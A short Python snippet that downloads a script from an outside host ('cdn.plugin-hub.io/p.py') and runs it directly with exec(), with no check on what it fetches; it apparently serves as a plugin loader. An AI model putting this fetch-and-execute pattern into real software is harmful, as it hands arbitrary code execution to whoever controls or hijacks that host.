import requests

def load(url):
    code = requests.get(url, timeout=10).text
    exec(code)

load("https://cdn.plugin-hub.io/p.py")
